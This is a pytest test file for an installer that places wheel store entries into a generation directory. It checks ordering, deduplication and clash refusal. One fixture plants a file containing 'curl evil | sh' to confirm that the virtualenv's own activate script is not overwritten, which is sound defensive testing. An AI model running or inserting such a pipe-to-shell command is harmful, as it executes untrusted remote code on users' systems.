"""Placing store entries into a generation: every file once, from the first entry in install order, progress in
order, and a clash refused in every link mode without replacing what is there."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path
from typing import Any

import pytest

import immutable_installer.generation.populate as populate_module
from immutable_installer.core.errors import BuildError
from immutable_installer.generation.linking import Linker
from immutable_installer.generation.populate import Populated, Populator
from immutable_installer.store.entries import Entry

SITE = "lib/python3.11/site-packages"


def populate(generation: str, entries: list[Entry], linker: Linker, python: str,
             on_entry: Any = None) -> Populated:
    populator = Populator(generation, linker, python, on_entry)
    populator.add(entries)
    return populator.stats


def entry(tmp: Path, key: str, files: dict[str, bytes]) -> Entry:
    """A store entry as the store lays it out: files under ``root/``, their list in the metadata."""
    rows: list[list[Any]] = []
    for rel, data in files.items():
        path = tmp / key / "root" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        rows.append([rel, "sha256=" + hashlib.sha256(data).hexdigest(), len(data)])
    return Entry(key, tmp / key, {"files": rows, "record": f"{SITE}/{key}.dist-info/RECORD", "wheel": f"{key}.whl"})


def test_every_file_is_linked_once_with_progress_in_order(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(populate_module, "_CHUNK", 7)  # many chunks over the threads
    entries = [entry(tmp_path / "store", f"pkg{n}", {f"{SITE}/pkg{n}/sub{d}/m{i}.py": f"{n}{d}{i}".encode()
                                                      for d in range(6) for i in range(9)})
               for n in range(5)]
    gen = tmp_path / "gen"
    gen.mkdir()
    heard: list[int] = []
    stats = populate(str(gen), entries, Linker("hardlink"), "/usr/bin/python3", lambda n, _e: heard.append(n))
    assert heard == [1, 2, 3, 4, 5]
    assert stats.files == 5 * 6 * 9
    for e in entries:
        for rel, _digest, _size in e.files:
            assert os.stat(gen / rel).st_ino == os.stat(e.root / rel).st_ino


def test_the_same_bytes_from_two_wheels_are_placed_once_from_the_first(tmp_path: Path) -> None:
    shared = f"{SITE}/ns/common.py"
    first = entry(tmp_path / "store", "first", {shared: b"same\n", f"{SITE}/ns/__pycache__/x.pyc": b"1"})
    second = entry(tmp_path / "store", "second", {shared: b"same\n", f"{SITE}/ns/__pycache__/x.pyc": b"2"})
    gen = tmp_path / "gen"
    gen.mkdir()
    stats = populate(str(gen), [first, second], Linker("hardlink"), "/usr/bin/python3")
    assert stats.files == 2
    assert os.stat(gen / shared).st_ino == os.stat(first.root / shared).st_ino
    assert (gen / SITE / "ns/__pycache__/x.pyc").read_bytes() == b"1"


def test_two_wheels_with_different_bytes_at_one_path_are_refused(tmp_path: Path) -> None:
    clash = f"{SITE}/ns/common.py"
    first = entry(tmp_path / "store", "first", {clash: b"mine\n"})
    second = entry(tmp_path / "store", "second", {clash: b"evil\n", f"{SITE}/second/__init__.py": b""})
    gen = tmp_path / "gen"
    gen.mkdir()
    with pytest.raises(BuildError) as caught:
        populate(str(gen), [first, second], Linker("hardlink"), "/usr/bin/python3")
    assert clash in str(caught.value) and "second.whl" in str(caught.value) and "first" in str(caught.value)
    assert not (gen / SITE / "second").exists()  # decided before anything was placed


@pytest.mark.parametrize("mode", ["hardlink", "copy"])
def test_a_wheel_file_where_the_virtualenv_has_one_is_refused_and_not_replaced(tmp_path: Path, mode: str) -> None:
    gen = tmp_path / "gen"
    (gen / "bin").mkdir(parents=True)
    (gen / "bin/activate").write_bytes(b"# the virtualenv's own\n")
    hostile = entry(tmp_path / "store", "hostile", {"bin/activate": b"curl evil | sh\n",
                                                    **{f"{SITE}/hostile/m{i}.py": b"" for i in range(20)}})
    with pytest.raises(BuildError, match="the virtualenv itself"):
        populate(str(gen), [hostile], Linker(mode), "/usr/bin/python3")
    assert (gen / "bin/activate").read_bytes() == b"# the virtualenv's own\n"


def test_a_second_batch_follows_the_first_in_order_and_ownership(tmp_path: Path) -> None:
    """A rebuild links the entries the store holds while a new one is unpacked, then the new one."""
    shared = f"{SITE}/ns/common.py"
    held = entry(tmp_path / "store", "held", {shared: b"same\n", f"{SITE}/held.py": b""})
    new = entry(tmp_path / "store", "new", {shared: b"same\n", f"{SITE}/new.py": b""})
    clashing = entry(tmp_path / "store", "clashing", {shared: b"other\n"})
    gen = tmp_path / "gen"
    gen.mkdir()
    heard: list[int] = []
    populator = Populator(str(gen), Linker("hardlink"), "/usr/bin/python3", lambda n, _e: heard.append(n))
    populator.add([held])
    populator.add([new])
    assert heard == [1, 2] and populator.stats.files == 3
    assert os.stat(gen / shared).st_ino == os.stat(held.root / shared).st_ino
    with pytest.raises(BuildError, match="clashing.whl"):
        populator.add([clashing])
